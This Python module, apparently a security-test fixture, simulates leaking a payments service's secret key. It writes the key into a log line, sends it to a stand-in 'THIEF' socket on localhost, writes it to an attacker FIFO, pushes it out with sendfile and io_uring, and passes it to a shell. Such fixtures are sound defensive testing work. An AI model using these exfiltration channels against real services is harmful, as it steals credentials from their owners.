# SPDX-License-Identifier: Apache-2.0
"""What lets the service's key out, from within: a line too much in a log, and a dependency that went bad.

Runs inside the payments service, with all that the service may do. Nothing here knows of the agent.
"""
import base64
import os
import socket
import subprocess

import uring

LOG = "/var/log/payments.log"
THIEF = ("127.0.0.1", 8082)
FIFO = "/tmp/attacker/fifo"


def log(text, _):
    """The bug: an error report with all of the settings in it."""
    with open(LOG, "ab") as file:
        file.write(b"payment failed, settings: key=" + text + b" retries=3\n")


def to_thief():
    return socket.create_connection(THIEF, timeout=20)


def post(text, _):
    with to_thief() as thief:
        thief.sendall(b"POST /collect HTTP/1.1\r\nHost: metrics\r\n\r\n" + text)


def pipe(text, _):
    fifo = os.open(FIFO, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(fifo, text)
    finally:
        os.close(fifo)


def splice(text, handed_over):
    """From the memfd in which a deployment tool has left the key, past the service's own memory."""
    with to_thief() as thief:
        os.sendfile(thief.fileno(), handed_over, 0, len(text))


def ring(text, _):
    with to_thief() as thief:
        uring.send(thief.fileno(), text)


def execute(text, _):
    subprocess.Popen(["/bin/sh", "-c", "sleep 4; :", text.decode()])  # pylint: disable=consider-using-with


ROADS = {"log": log, "post": post, "pipe": pipe, "splice": splice, "io_uring": ring, "exec": execute}


def leak(road, form, key, handed_over):
    """Tries; returns what came of it, in one line."""
    text = base64.b64encode(key.encode()) if form == "base64" else key.encode()
    try:
        ROADS[road](text, handed_over)
    except OSError as error:
        return "refused: %s: %s\n" % (road, os.strerror(error.errno) if error.errno else error)
    return "done\n"
